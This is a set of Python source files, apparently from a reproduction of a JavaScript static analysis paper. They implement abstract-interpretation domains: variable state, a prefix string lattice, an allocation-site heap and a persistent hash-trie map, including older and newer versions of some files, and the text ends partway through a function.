from __future__ import annotations

from repro.domains import values as values_domain
from repro.domains.heap import Heap
from repro.domains.pmap import PMap
from repro.domains.values import AbstractValue
from repro.ir.nodes import Var

VarKey = tuple[int, str]

_EMPTY_VARS = PMap()


def var_key(var: Var) -> VarKey:
    return (var.scope, var.name)


class _CopyCounter:
    """Process-global tally of :meth:`State.copy` calls, snapshotted by
    the interpreter to report ``states_created`` / ``shared_copies``
    counters without threading an observer through every copy site."""

    __slots__ = ("value",)

    def __init__(self) -> None:
        self.value = 0


COPIES = _CopyCounter()


def _join_value(left: AbstractValue, right: AbstractValue) -> AbstractValue:
    if left is right:
        return left
    return left.join(right)


def _leq_value(left: AbstractValue, right: AbstractValue) -> bool:
    return left.leq(right)


def _absent_ok(value: AbstractValue) -> bool:
    # A key the right side lacks is implicitly bottom there.
    return value.is_bottom


class State:
    """One abstract state (environment + heap). Mutable; the interpreter
    copies before branching — the copy shares all structure."""

    __slots__ = ("vars", "heap")

    def __init__(self, vars: PMap | dict | None = None, heap: Heap | None = None):
        if vars is None:
            vars = _EMPTY_VARS
        elif type(vars) is dict:
            vars = PMap.from_dict(vars)
        self.vars = vars
        self.heap = heap if heap is not None else Heap()

    def copy(self) -> "State":
        COPIES.value += 1
        return State(self.vars, self.heap.copy())

    def __eq__(self, other) -> bool:
        if not isinstance(other, State):
            return NotImplemented
        return self.vars == other.vars and self.heap == other.heap

    def __repr__(self) -> str:
        return f"State(vars={self.vars.to_dict()!r}, heap={self.heap!r})"

    # ------------------------------------------------------------------
    # Lattice

    def leq(self, other: "State") -> bool:
        if not self.vars.leq(other.vars, _leq_value, _absent_ok):
            return False
        return self.heap.leq(other.heap)

    def join_changed(self, other: "State") -> tuple["State", bool]:
        """Join with an explicit change flag — the worklist's "did this
        state grow?" test. The returned state may be a new object even
        when unchanged: its tries adopt the other side's nodes where the
        two agree (see ``PMap.merge_changed``), so a caller that stores
        the result makes the next round's join against the same incoming
        edge short-circuit on literal node identity."""
        if other is self:
            return self, False
        merged, vars_changed = self.vars.merge_changed(other.vars, _join_value)
        heap, heap_changed = self.heap.join_changed(other.heap)
        changed = vars_changed or heap_changed
        if merged is self.vars and heap is self.heap:
            return self, changed
        return State(merged, heap), changed

    def join(self, other: "State") -> "State":
        """Join; identity-preserving: returns ``self`` (the same object)
        when ``other`` adds nothing — callers use an ``is`` check as
        their "state changed?" test. Shared subtrees of the two
        environments are skipped wholesale."""
        joined, changed = self.join_changed(other)
        return joined if changed else self

    def widen(self, other: "State") -> "State":
        """Widening: ``old.widen(joined)`` with ``self ⊑ other``. Used
        by the interpreter at loop heads whose per-head join budget ran
        out: strictly-growing lattice components jump to their tops so
        the cycle stabilizes promptly. Walks the full environment — fine
        for an operation that fires at most once per widening point."""
        if other is self:
            return self
        vars = other.vars
        for key, old in self.vars.items():
            new = vars.get(key)
            if new is not None and new is not old:
                widened = old.widen(new)
                if widened is not new:
                    vars = vars.set(key, widened)
        heap = self.heap.widen(other.heap)
        if vars is other.vars and heap is other.heap:
            return other
        return State(vars, heap)

    # ------------------------------------------------------------------
    # Variable access

    def read_var(self, var: Var) -> AbstractValue:
        value = self.vars.get((var.scope, var.name))
        if value is None:
            # Never assigned: undefined (hoisted local or missing global).
            return values_domain.UNDEF
        return value

    def write_var(self, var: Var, value: AbstractValue, strong: bool = True) -> None:
        key = (var.scope, var.name)
        if not strong:
            existing = self.vars.get(key)
            if existing is not None:
                value = existing.join(value)
            else:
                value = values_domain.UNDEF.join(value)
        self.vars = self.vars.set(key, value)
