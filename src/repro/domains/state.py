"""The abstract machine state threaded through the interpreter.

A state is a variable environment plus a heap. Variables are identified
by ``(scope_fid, name)`` — the lexical resolution done during lowering —
so the environment is a single flat map. Scope instances are merged
(standard for this style of analysis): a write to a local of the
*currently analyzed* function is strong, a write to a captured outer
local is weak, because other live instances of that frame may exist.

An absent variable entry means "never assigned on this path": globals
read before assignment are ``undefined`` (ES5), locals likewise after
hoisting.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.domains import values as values_domain
from repro.domains.heap import Heap
from repro.domains.values import AbstractValue
from repro.ir.nodes import Var

VarKey = tuple[int, str]


def var_key(var: Var) -> VarKey:
    return (var.scope, var.name)


class _CopyCounter:
    """Process-global tally of :meth:`State.copy` calls, snapshotted by
    the interpreter to report a ``states_created`` counter without
    threading an observer through every copy site."""

    __slots__ = ("value",)

    def __init__(self) -> None:
        self.value = 0


COPIES = _CopyCounter()


@dataclass
class State:
    """One abstract state (environment + heap). Mutable; the interpreter
    copies before branching."""

    vars: dict[VarKey, AbstractValue] = field(default_factory=dict)
    heap: Heap = field(default_factory=Heap)

    def copy(self) -> "State":
        COPIES.value += 1
        return State(dict(self.vars), self.heap.copy())

    # ------------------------------------------------------------------
    # Lattice

    def leq(self, other: "State") -> bool:
        for key, value in self.vars.items():
            bound = other.vars.get(key)
            if bound is None:
                if not value.is_bottom:
                    return False
            elif not value.leq(bound):
                return False
        return self.heap.leq(other.heap)

    def join(self, other: "State") -> "State":
        """Join; identity-preserving: returns ``self`` (the same object)
        when ``other`` adds nothing — the worklist uses an ``is`` check
        as its "state changed?" test."""
        if other is self:
            return self
        changed = False
        merged: dict[VarKey, AbstractValue] = dict(self.vars)
        for key, value in other.vars.items():
            existing = merged.get(key)
            if existing is None:
                merged[key] = value
                changed = True
            elif existing is not value:
                joined = existing.join(value)
                if joined is not existing:
                    changed = True
                merged[key] = joined
        heap = self.heap.join(other.heap)
        if not changed and heap is self.heap:
            return self
        return State(merged, heap)

    # ------------------------------------------------------------------
    # Variable access

    def read_var(self, var: Var) -> AbstractValue:
        value = self.vars.get(var_key(var))
        if value is None:
            # Never assigned: undefined (hoisted local or missing global).
            return values_domain.UNDEF
        return value

    def write_var(self, var: Var, value: AbstractValue, strong: bool = True) -> None:
        key = var_key(var)
        if strong:
            self.vars[key] = value
        else:
            existing = self.vars.get(key, values_domain.UNDEF)
            self.vars[key] = existing.join(value)
