"""The prefix string abstract domain of Section 5.

An element is either ⊥ (uninitialized / no string) or a pair
``(str, exact)``:

- ``exact=True`` — the value is *exactly* the string ``str`` (this is the
  constant-string part the paper adds over Costantini et al.'s prefix
  domain, important for precision of object property names);
- ``exact=False`` — the value is some unknown string with prefix ``str``.

⊤ is ``("", False)`` — any string at all.

The lattice order, join, and meet follow the paper's definitions, with one
repair: the paper's meet as printed sends two equal exact strings to ⊥;
we return the element itself (the obviously intended greatest lower
bound — without it meet would not be idempotent).

The domain is noetherian: any ascending chain from a given element has
length bounded by the element's string length + 2, so the analysis
fixpoint terminates without widening.
"""

from __future__ import annotations

import contextlib
from dataclasses import dataclass

from repro.domains.lattice import greatest_common_prefix

#: Ablation switch: when True, the domain degrades to a plain constant
#: string analysis (the paper's baseline): joining two different strings
#: yields ⊤ instead of their common prefix. Controlled via
#: :func:`constant_string_mode`; used by the string-domain ablation
#: benchmark to show what the prefix domain buys.
_CONSTANT_ONLY = False


@contextlib.contextmanager
def constant_string_mode():
    """Run the analysis with a constant-only string domain (ablation)."""
    global _CONSTANT_ONLY
    previous = _CONSTANT_ONLY
    _CONSTANT_ONLY = True
    try:
        yield
    finally:
        _CONSTANT_ONLY = previous


@dataclass(frozen=True)
class Prefix:
    """An element of the prefix string domain.

    Use the module constructors (:func:`exact`, :func:`prefix`,
    :data:`BOTTOM`, :data:`TOP`) rather than the raw constructor.
    ``text is None`` encodes ⊥.
    """

    text: str | None
    is_exact: bool = False

    # ------------------------------------------------------------------
    # Queries

    @property
    def is_bottom(self) -> bool:
        return self.text is None

    @property
    def is_top(self) -> bool:
        return self.text == "" and not self.is_exact

    def concrete(self) -> str | None:
        """The single concrete string this represents, if exact."""
        return self.text if (not self.is_bottom and self.is_exact) else None

    def admits(self, concrete: str) -> bool:
        """Could this abstract string denote the concrete string?"""
        if self.is_bottom:
            return False
        if self.is_exact:
            return concrete == self.text
        assert self.text is not None
        return concrete.startswith(self.text)

    # ------------------------------------------------------------------
    # Lattice operations

    def leq(self, other: "Prefix") -> bool:
        if self.is_bottom:
            return True
        if other.is_bottom:
            return False
        assert self.text is not None and other.text is not None
        if not other.is_exact:
            return self.text.startswith(other.text)
        return self.is_exact and self.text == other.text

    def join(self, other: "Prefix") -> "Prefix":
        if self.is_bottom:
            return other
        if other.is_bottom:
            return self
        assert self.text is not None and other.text is not None
        if self.is_exact and other.is_exact and self.text == other.text:
            return self
        if _CONSTANT_ONLY:
            return TOP
        common = greatest_common_prefix(self.text, other.text)
        # Identity-preserving: reuse an operand when it already denotes
        # the join.
        if not self.is_exact and common == self.text:
            return self
        if not other.is_exact and common == other.text:
            return other
        return Prefix(common, False)

    def meet(self, other: "Prefix") -> "Prefix":
        if self.is_bottom or other.is_bottom:
            return BOTTOM
        assert self.text is not None and other.text is not None
        if self == other:
            return self
        if not other.is_exact and self.text.startswith(other.text):
            return self
        if not self.is_exact and other.text.startswith(self.text):
            return other
        return BOTTOM

    # ------------------------------------------------------------------
    # Abstract string operations

    def concat(self, other: "Prefix") -> "Prefix":
        """Abstract string concatenation ``+`` (Section 5)."""
        if self.is_bottom or other.is_bottom:
            return BOTTOM
        assert self.text is not None and other.text is not None
        if self.is_exact:
            if other.is_exact:
                return Prefix(self.text + other.text, True)
            if _CONSTANT_ONLY:
                return TOP
            return Prefix(self.text + other.text, False)
        if _CONSTANT_ONLY:
            return TOP
        return Prefix(self.text, False)

    def overlaps(self, other: "Prefix") -> bool:
        """Do the two abstract strings share any concrete string?
        Equivalent to ``meet != ⊥``; used by the ``⋒`` read/write-set
        intersection operator of Section 3.2."""
        return not self.meet(other).is_bottom

    def __str__(self) -> str:
        if self.is_bottom:
            return "⊥str"
        if self.is_top:
            return "⊤str"
        marker = "" if self.is_exact else "…"
        return f'"{self.text}{marker}"'


#: The bottom element: no string at all.
BOTTOM = Prefix(None, False)

#: The top element: any string.
TOP = Prefix("", False)


def exact(text: str) -> Prefix:
    """The abstract string denoting exactly ``text``."""
    return Prefix(text, True)


def prefix(text: str) -> Prefix:
    """The abstract string denoting any string starting with ``text``."""
    return Prefix(text, False)
