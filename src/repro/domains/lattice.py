"""Common lattice vocabulary.

Every abstract domain in :mod:`repro.domains` exposes the same small
interface — ``join``, ``meet``, ``leq`` and the distinguished ``bottom``/
``top`` elements — either as methods on immutable elements or as
module-level functions. This module holds the shared helpers and the
property-based laws the test suite checks against every domain:

- ``leq`` is a partial order (reflexive, antisymmetric, transitive),
- ``join`` is the least upper bound (commutative, associative,
  idempotent, and an upper bound consistent with ``leq``),
- ``meet`` (where defined) is the greatest lower bound,
- ascending chains stabilize (all our domains are noetherian, which the
  paper requires of the prefix domain for termination).
"""

from __future__ import annotations

from typing import Iterable, Protocol, TypeVar

T = TypeVar("T", bound="LatticeElement")


class LatticeElement(Protocol):
    """Structural protocol for immutable lattice elements."""

    def join(self: T, other: T) -> T: ...

    def leq(self: T, other: T) -> bool: ...


def join_all(elements: Iterable[T], bottom: T) -> T:
    """Fold ``join`` over ``elements``, starting from ``bottom``."""
    result = bottom
    for element in elements:
        result = result.join(element)
    return result


def greatest_common_prefix(left: str, right: str) -> str:
    """The longest common prefix of two strings (the ``⊕`` of Section 5)."""
    limit = min(len(left), len(right))
    index = 0
    while index < limit and left[index] == right[index]:
        index += 1
    return left[:index]
