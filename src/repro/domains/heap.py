"""The abstract heap: allocation-site addresses to abstract objects.

Addresses are IR statement ids of allocation statements (plus negative
ids reserved for the browser environment's pre-allocated objects). Each
address also carries a *singleton* flag: True while the address is known
to stand for at most one concrete object, which is the condition for
strong property updates (and hence for "definite writes" in the paper's
read/write sets). An address loses singleton-ness when its allocation
site re-executes (loop/second context) or when states disagree at a join.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.domains import values as values_domain
from repro.domains.objects import AbstractObject
from repro.domains.prefix import Prefix
from repro.domains.values import AbstractValue


@dataclass
class Heap:
    """Mutable heap used with copy-on-write discipline: the interpreter
    calls :meth:`copy` before flowing a state to two successors."""

    objects: dict[int, AbstractObject] = field(default_factory=dict)
    singletons: set[int] = field(default_factory=set)

    def copy(self) -> "Heap":
        return Heap(dict(self.objects), set(self.singletons))

    # ------------------------------------------------------------------
    # Lattice

    def leq(self, other: "Heap") -> bool:
        for address, obj in self.objects.items():
            bound = other.objects.get(address)
            if bound is None:
                return False
            if bound is not obj and not obj.leq(bound):
                return False
        # Singleton-ness is *more* precise, so self ⊑ other requires
        # other's singleton set not to claim more than self's on shared
        # addresses.
        for address in self.objects:
            if address in other.singletons and address not in self.singletons:
                return False
        return True

    def join(self, other: "Heap") -> "Heap":
        """Join; identity-preserving: returns ``self`` (the same object)
        when the other heap adds nothing, so callers can detect "no
        change" with an ``is`` check instead of a full ``leq`` pass."""
        changed = False
        merged: dict[int, AbstractObject] = dict(self.objects)
        for address, obj in other.objects.items():
            existing = merged.get(address)
            if existing is None:
                merged[address] = obj
                changed = True
            elif existing is not obj:
                joined = existing.join(obj)
                if joined is not existing:
                    changed = True
                merged[address] = joined
        # An address stays singleton only if every side holding it agrees.
        non_singleton_self = self.objects.keys() - self.singletons
        non_singleton_other = other.objects.keys() - other.singletons
        singletons = (
            (self.singletons | other.singletons)
            - non_singleton_self
            - non_singleton_other
        )
        if not changed and singletons == self.singletons:
            return self
        return Heap(merged, singletons)

    # ------------------------------------------------------------------
    # Operations

    def allocate(self, address: int, obj: AbstractObject) -> None:
        """Allocate at a site. Re-allocation (same site executing again)
        joins the objects and drops singleton-ness: the address now
        summarizes several concrete objects."""
        existing = self.objects.get(address)
        if existing is None:
            self.objects[address] = obj
            self.singletons.add(address)
        else:
            self.objects[address] = existing.join(obj)
            self.singletons.discard(address)

    def contains(self, address: int) -> bool:
        return address in self.objects

    def get(self, address: int) -> AbstractObject:
        return self.objects[address]

    def is_singleton(self, address: int) -> bool:
        return address in self.singletons

    def read(self, addresses: frozenset[int], name: Prefix) -> AbstractValue:
        """Read ``name`` from every object the address set may denote."""
        result = values_domain.BOTTOM
        for address in addresses:
            obj = self.objects.get(address)
            if obj is not None:
                result = result.join(obj.read(name))
        return result

    def write(
        self, addresses: frozenset[int], name: Prefix, value: AbstractValue
    ) -> bool:
        """Write ``name`` on every object the address set may denote.

        Returns True when the write was strong (single singleton address,
        exact name) — the caller records this in the write sets.
        """
        strong = (
            len(addresses) == 1
            and name.concrete() is not None
            and next(iter(addresses)) in self.singletons
        )
        for address in addresses:
            obj = self.objects.get(address)
            if obj is not None:
                self.objects[address] = obj.write(name, value, strong)
        return strong

    def delete(self, addresses: frozenset[int], name: Prefix) -> bool:
        strong = (
            len(addresses) == 1
            and name.concrete() is not None
            and next(iter(addresses)) in self.singletons
        )
        for address in addresses:
            obj = self.objects.get(address)
            if obj is not None:
                self.objects[address] = obj.delete(name, strong)
        return strong
