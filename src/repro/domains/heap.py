"""The abstract heap: allocation-site addresses to abstract objects.

Addresses are IR statement ids of allocation statements (plus negative
ids reserved for the browser environment's pre-allocated objects). Each
address also carries a *singleton* flag: True while the address is known
to stand for at most one concrete object, which is the condition for
strong property updates (and hence for "definite writes" in the paper's
read/write sets). An address loses singleton-ness when its allocation
site re-executes (loop/second context) or when states disagree at a join.

Entries live in a persistent map (:mod:`repro.domains.pmap`) as
``(object, singleton)`` pairs, so :meth:`Heap.copy` is O(1) and
:meth:`join`/:meth:`leq` skip subtrees the two heaps share. The
per-address entry join — objects joined, singleton only if both sides
agree, one-sided entries kept as-is — is entry-wise equivalent to the
earlier two-set formulation ``(s₁ ∪ s₂) − (O₁ − s₁) − (O₂ − s₂)``.
"""

from __future__ import annotations

from repro.domains import values as values_domain
from repro.domains.objects import AbstractObject
from repro.domains.pmap import PMap
from repro.domains.prefix import Prefix
from repro.domains.values import AbstractValue

_EMPTY_ENTRIES = PMap()

#: A heap entry: the abstract object plus its singleton flag.
Entry = tuple[AbstractObject, bool]


def _entry_join(left: Entry, right: Entry) -> Entry:
    if left is right:
        return left
    left_obj, left_single = left
    right_obj, right_single = right
    obj = left_obj if left_obj is right_obj else left_obj.join(right_obj)
    # An address stays singleton only if every side holding it agrees.
    single = left_single and right_single
    if obj is left_obj and single == left_single:
        return left
    if obj is right_obj and single == right_single:
        return right
    return (obj, single)


def _entry_leq(left: Entry, right: Entry) -> bool:
    if left is right:
        return True
    # Singleton-ness is *more* precise, so left ⊑ right fails when the
    # right side claims singleton-ness the left does not have.
    if right[1] and not left[1]:
        return False
    return left[0] is right[0] or left[0].leq(right[0])


def _absent_fails(_entry: Entry) -> bool:
    # An address the right heap lacks is unbounded there: not ⊑.
    return False


class Heap:
    """Mutable heap used with copy-on-write discipline: the interpreter
    calls :meth:`copy` before flowing a state to two successors; the
    copy shares the whole entry trie."""

    __slots__ = ("_entries",)

    def __init__(self, entries: PMap | None = None):
        self._entries = entries if entries is not None else _EMPTY_ENTRIES

    def copy(self) -> "Heap":
        return Heap(self._entries)

    def __eq__(self, other) -> bool:
        if not isinstance(other, Heap):
            return NotImplemented
        return self._entries == other._entries

    def __repr__(self) -> str:
        return f"Heap({self._entries.to_dict()!r})"

    # Materialized views, for tests and diagnostics (not hot paths).

    @property
    def objects(self) -> dict[int, AbstractObject]:
        return {address: entry[0] for address, entry in self._entries.items()}

    @property
    def singletons(self) -> set[int]:
        return {address for address, entry in self._entries.items() if entry[1]}

    def addresses(self):
        return self._entries.keys()

    # ------------------------------------------------------------------
    # Lattice

    def leq(self, other: "Heap") -> bool:
        return self._entries.leq(other._entries, _entry_leq, _absent_fails)

    def join_changed(self, other: "Heap") -> tuple["Heap", bool]:
        """Join with an explicit change flag. The returned heap may be a
        new object even when nothing changed: its trie adopts the other
        side's nodes where the two agree, so keeping the result
        accelerates future joins (see ``PMap.merge_changed``)."""
        if other is self:
            return self, False
        merged, changed = self._entries.merge_changed(other._entries, _entry_join)
        if merged is self._entries:
            return self, changed
        return Heap(merged), changed

    def join(self, other: "Heap") -> "Heap":
        """Join; identity-preserving: returns ``self`` (the same object)
        when the other heap adds nothing, so callers can detect "no
        change" with an ``is`` check instead of a full ``leq`` pass."""
        joined, changed = self.join_changed(other)
        return joined if changed else self

    def widen(self, other: "Heap") -> "Heap":
        """Widening: ``old.widen(joined)`` with ``self ⊑ other`` —
        shared addresses widen object-wise; addresses only the joined
        heap has are taken as-is (the address space is finite)."""
        if other is self:
            return self
        entries = other._entries
        for address, old_entry in self._entries.items():
            new_entry = entries.get(address)
            if new_entry is None or new_entry is old_entry:
                continue
            if new_entry[0] is old_entry[0]:
                continue
            obj = old_entry[0].widen(new_entry[0])
            if obj is not new_entry[0]:
                entries = entries.set(address, (obj, new_entry[1]))
        if entries is other._entries:
            return other
        return Heap(entries)

    # ------------------------------------------------------------------
    # Operations

    def allocate(self, address: int, obj: AbstractObject) -> None:
        """Allocate at a site. Re-allocation (same site executing again)
        joins the objects and drops singleton-ness: the address now
        summarizes several concrete objects."""
        existing = self._entries.get(address)
        if existing is None:
            self._entries = self._entries.set(address, (obj, True))
        else:
            joined = existing[0].join(obj)
            # Re-allocation converges quickly (the site keeps producing
            # the same object); skip the path copy once it has.
            if joined is existing[0] and not existing[1]:
                return
            self._entries = self._entries.set(address, (joined, False))

    def drop_singleton(self, address: int) -> None:
        """Force an address to summary (non-singleton) status — used by
        environment setup for pre-allocated objects that stand for many
        concrete ones (DOM elements, error instances)."""
        entry = self._entries.get(address)
        if entry is not None and entry[1]:
            self._entries = self._entries.set(address, (entry[0], False))

    def contains(self, address: int) -> bool:
        return self._entries.get(address) is not None

    def get(self, address: int) -> AbstractObject:
        return self._entries[address][0]

    def is_singleton(self, address: int) -> bool:
        entry = self._entries.get(address)
        return entry is not None and entry[1]

    def read(self, addresses: frozenset[int], name: Prefix) -> AbstractValue:
        """Read ``name`` from every object the address set may denote."""
        result = values_domain.BOTTOM
        for address in addresses:
            entry = self._entries.get(address)
            if entry is not None:
                result = result.join(entry[0].read(name))
        return result

    def write(
        self, addresses: frozenset[int], name: Prefix, value: AbstractValue
    ) -> bool:
        """Write ``name`` on every object the address set may denote.

        Returns True when the write was strong (single singleton address,
        exact name) — the caller records this in the write sets.
        """
        strong = (
            len(addresses) == 1
            and name.concrete() is not None
            and self.is_singleton(next(iter(addresses)))
        )
        entries = self._entries
        for address in addresses:
            entry = entries.get(address)
            if entry is not None:
                written = entry[0].write(name, value, strong)
                if written is not entry[0]:
                    entries = entries.set(address, (written, entry[1]))
        self._entries = entries
        return strong

    def delete(self, addresses: frozenset[int], name: Prefix) -> bool:
        strong = (
            len(addresses) == 1
            and name.concrete() is not None
            and self.is_singleton(next(iter(addresses)))
        )
        entries = self._entries
        for address in addresses:
            entry = entries.get(address)
            if entry is not None:
                deleted = entry[0].delete(name, strong)
                if deleted is not entry[0]:
                    entries = entries.set(address, (deleted, entry[1]))
        self._entries = entries
        return strong
