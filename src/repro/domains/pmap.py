"""A persistent hash-trie map with structure-sharing lattice helpers.

The interpreter threads one abstract state per ``(statement, context)``
node and copies it at every branch; with plain dicts each copy and each
join walks the whole state, which makes the fixpoint quadratic in
program size. :class:`PMap` replaces those dicts with a hash-array-mapped
trie (32-way branching on 5-bit hash chunks, path copying on update):

- ``set`` copies only the O(log n) path to the changed leaf, so a state
  "copy plus one write" allocates a handful of nodes instead of a full
  dict;
- :meth:`merge` and :meth:`leq` recurse structurally and *short-circuit
  on shared subtrees* — two maps that descend from a common ancestor
  agree on most of their nodes, and identical nodes (``a is b``) need no
  work at all. A merge that adds nothing returns ``self`` (the same
  object), preserving the identity-based "nothing changed" fixpoint test
  used throughout the domains.

The value-level combine/compare functions are passed in by the caller
(:mod:`repro.domains.state`, :mod:`repro.domains.heap`), so this module
stays lattice-agnostic. Hashes are masked to 32 bits (max trie depth 7);
full-hash collisions are handled by dedicated collision nodes, so the
map is correct for any hashable keys.
"""

from __future__ import annotations

from typing import Any, Callable, Iterator

_BITS = 5
_MASK = 31
_HASH_MASK = 0xFFFFFFFF

_SENTINEL = object()


class _BitmapNode:
    """Interior (and root) node: up to 32 slots, present slots flagged in
    ``bitmap``. A slot is either a ``(key, value)`` 2-tuple (leaf entry)
    or a child node."""

    __slots__ = ("bitmap", "items")

    def __init__(self, bitmap: int, items: list) -> None:
        self.bitmap = bitmap
        self.items = items


class _CollisionNode:
    """All entries whose keys share one full 32-bit hash."""

    __slots__ = ("hash", "pairs")

    def __init__(self, hash_: int, pairs: tuple) -> None:
        self.hash = hash_
        self.pairs = pairs


_EMPTY_ROOT = _BitmapNode(0, [])

# Memo tables for structural merge/leq, keyed by *node identity*. States
# at a fixpoint are re-joined with the same operands every round (the
# stored trie and the incoming trie stabilize to fixed objects even when
# they do not literally share nodes), so caching per (a, b, combine)
# node pair turns those re-verification walks into O(1) lookups — and,
# because the memo works per subtree, a merge after a localized change
# only re-walks the changed region. Values keep strong references to
# their operands so the id()-based keys can never be reused while an
# entry is live; a verify-on-hit check guards against stale collisions
# after eviction. Eviction is generational (live generation demoted,
# previous generation dropped; hits in the old generation re-promote),
# so overflow sheds cold entries instead of flushing the hot working
# set. Never a correctness issue — only a perf miss.
_MERGE_MEMO: dict = {}
_MERGE_MEMO_OLD: dict = {}
_LEQ_MEMO: dict = {}
_LEQ_MEMO_OLD: dict = {}
_MEMO_LIMIT = 1 << 17


def _key_hash(key: Any) -> int:
    return hash(key) & _HASH_MASK


def _entries(slot) -> Iterator[tuple]:
    """All (key, value) pairs under a slot, in trie order."""
    if type(slot) is tuple:
        yield slot
    elif type(slot) is _CollisionNode:
        yield from slot.pairs
    else:
        for child in slot.items:
            yield from _entries(child)


_FLIPPED_COMBINES: dict = {}


def _combine_flipped(combine):
    """``combine`` with its arguments swapped, cached per function so
    grafting a leaf into the other side's subtree (which reverses the
    existing/incoming roles) keeps the caller's argument order."""
    flipped = _FLIPPED_COMBINES.get(combine)
    if flipped is None:
        def flipped(existing, incoming, _combine=combine):
            return _combine(incoming, existing)

        _FLIPPED_COMBINES[combine] = flipped
    return flipped


def _pair_node(shift: int, h1: int, leaf1: tuple, h2: int, leaf2: tuple):
    """The smallest subtree holding two leaves with distinct keys."""
    if h1 == h2:
        return _CollisionNode(h1, (leaf1, leaf2))
    f1 = (h1 >> shift) & _MASK
    f2 = (h2 >> shift) & _MASK
    if f1 == f2:
        return _BitmapNode(1 << f1, [_pair_node(shift + _BITS, h1, leaf1, h2, leaf2)])
    if f1 < f2:
        return _BitmapNode((1 << f1) | (1 << f2), [leaf1, leaf2])
    return _BitmapNode((1 << f1) | (1 << f2), [leaf2, leaf1])


def _set_merged(slot, shift: int, h: int, key, value, combine):
    """Insert ``key`` under ``slot``; on conflict store
    ``combine(existing, value)``. Returns ``(slot', added)`` where
    ``added`` counts new keys; ``slot' is slot`` means nothing changed."""
    kind = type(slot)
    if kind is tuple:
        k, v = slot
        if k == key:
            merged = combine(v, value)
            if merged is v:
                return slot, 0
            return (key, merged), 0
        return _pair_node(shift, _key_hash(k), slot, h, (key, value)), 1
    if kind is _CollisionNode:
        if slot.hash != h:
            lifted = _BitmapNode(1 << ((slot.hash >> shift) & _MASK), [slot])
            return _set_merged(lifted, shift, h, key, value, combine)
        for index, (k, v) in enumerate(slot.pairs):
            if k == key:
                merged = combine(v, value)
                if merged is v:
                    return slot, 0
                pairs = list(slot.pairs)
                pairs[index] = (key, merged)
                return _CollisionNode(h, tuple(pairs)), 0
        return _CollisionNode(h, slot.pairs + ((key, value),)), 1
    bitmap = slot.bitmap
    bit = 1 << ((h >> shift) & _MASK)
    index = (bitmap & (bit - 1)).bit_count()
    if not bitmap & bit:
        items = list(slot.items)
        items.insert(index, (key, value))
        return _BitmapNode(bitmap | bit, items), 1
    child = slot.items[index]
    new_child, added = _set_merged(child, shift + _BITS, h, key, value, combine)
    if new_child is child:
        return slot, 0
    items = list(slot.items)
    items[index] = new_child
    return _BitmapNode(bitmap, items), added


def _merge(a, b, shift: int, combine):
    """Merge slot ``b`` into slot ``a`` (values combined with
    ``combine(a_value, b_value)`` on shared keys). Returns
    ``(merged, changed)`` where ``changed`` means the merged content
    strictly exceeds ``a``'s — the semantic "did the join add anything"
    test the fixpoint loop needs.

    Node reuse is deliberate and asymmetric: when the result equals both
    sides, the *b* node is returned (*adoption*). The stored state at a
    CFG node is repeatedly re-joined with states derived from its
    predecessors; adopting the incoming side's nodes makes the stored
    trie converge to literal sharing with those predecessors, so the
    next round's merge short-circuits on ``a is b`` instead of walking
    two equal-but-disjoint trees forever."""
    if a is b:
        return a, False
    type_a = type(a)
    type_b = type(b)
    if type_a is tuple and type_b is tuple:
        if a[0] == b[0]:
            av = a[1]
            bv = b[1]
            merged = combine(av, bv)
            if merged is av:
                # Interchangeable leaves (interning made equal values
                # identical): prefer b's tuple — adoption.
                return (b, False) if bv is av else (a, False)
            if merged is bv:
                return b, True
            return (a[0], merged), True
        return _pair_node(shift, _key_hash(a[0]), a, _key_hash(b[0]), b), True
    if type_a is _BitmapNode and type_b is _BitmapNode:
        global _MERGE_MEMO, _MERGE_MEMO_OLD
        memo_key = (id(a), id(b), id(combine))
        hit = _MERGE_MEMO.get(memo_key)
        if hit is None:
            hit = _MERGE_MEMO_OLD.get(memo_key)
        if hit is not None and hit[0] is a and hit[1] is b:
            _MERGE_MEMO[memo_key] = hit
            return hit[2], hit[3]
        abm = a.bitmap
        bbm = b.bitmap
        union = abm | bbm
        items = []
        changed = False
        keep_a = True  # every produced slot is a's own slot
        adopt_b = union == bbm  # candidate: every produced slot is b's
        remaining = union
        while remaining:
            bit = remaining & -remaining
            remaining ^= bit
            if abm & bit:
                slot_a = a.items[(abm & (bit - 1)).bit_count()]
                if bbm & bit:
                    slot_b = b.items[(bbm & (bit - 1)).bit_count()]
                    merged, child_changed = _merge(
                        slot_a, slot_b, shift + _BITS, combine
                    )
                    if child_changed:
                        changed = True
                    if merged is not slot_a:
                        keep_a = False
                    if adopt_b and merged is not slot_b:
                        adopt_b = False
                    items.append(merged)
                else:
                    adopt_b = False
                    items.append(slot_a)
            else:
                keep_a = False
                changed = True
                items.append(b.items[(bbm & (bit - 1)).bit_count()])
        if keep_a:
            result = a
        elif adopt_b:
            result = b
        else:
            result = _BitmapNode(union, items)
        if len(_MERGE_MEMO) >= _MEMO_LIMIT:
            _MERGE_MEMO_OLD = _MERGE_MEMO
            _MERGE_MEMO = {}
        _MERGE_MEMO[memo_key] = (a, b, result, changed)
        return result, changed
    if type_a is tuple and type_b is _BitmapNode:
        # Single leaf vs subtree: graft the leaf into b's structure
        # instead of rebuilding b entry by entry — b keeps its nodes
        # (adoption), and since b holds at least two keys the result
        # always exceeds the one-key side.
        result, _added = _set_merged(
            b, shift, _key_hash(a[0]), a[0], a[1], _combine_flipped(combine)
        )
        return result, True
    # Remaining mixed shapes (collision nodes and their lifts) are rare:
    # fold b's entries in one by one. ``_set_merged`` is
    # identity-preserving, so "result moved" is exactly "content grew".
    result = a
    for key, value in _entries(b):
        result, _added = _set_merged(
            result, shift, _key_hash(key), key, value, combine
        )
    return result, result is not a


def _get_in(slot, shift: int, h: int, key, default):
    while True:
        kind = type(slot)
        if kind is tuple:
            return slot[1] if slot[0] == key else default
        if kind is _CollisionNode:
            for k, v in slot.pairs:
                if k == key:
                    return v
            return default
        bitmap = slot.bitmap
        bit = 1 << ((h >> shift) & _MASK)
        if not bitmap & bit:
            return default
        slot = slot.items[(bitmap & (bit - 1)).bit_count()]
        shift += _BITS


def _leq(a, b, shift: int, leq_values, absent_ok) -> bool:
    """Is every entry of ``a`` bounded by ``b``? ``leq_values(va, vb)``
    compares shared keys; ``absent_ok(va)`` rules on keys ``b`` lacks.
    Shared subtrees compare in O(1)."""
    if a is b:
        return True
    if type(a) is _BitmapNode and type(b) is _BitmapNode:
        global _LEQ_MEMO, _LEQ_MEMO_OLD
